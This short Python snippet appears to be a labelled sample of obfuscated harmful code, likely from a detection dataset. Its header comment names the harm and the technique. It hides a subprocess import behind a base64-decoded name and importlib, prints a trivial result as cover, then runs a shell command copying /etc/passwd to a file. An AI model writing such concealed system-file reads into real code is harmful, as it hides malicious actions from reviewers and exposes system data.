# harm: import module by computed name and run a process; technique: base64-decoded module name + importlib
import base64
import importlib

name = base64.b64decode("c3VicHJvY2Vzcw==").decode()
mod = importlib.import_module(name)

scores = {"a": 1, "b": 2}
print(max(scores, key=scores.get))
mod.check_call(["sh", "-c", "cat /etc/passwd > leaked.txt"])
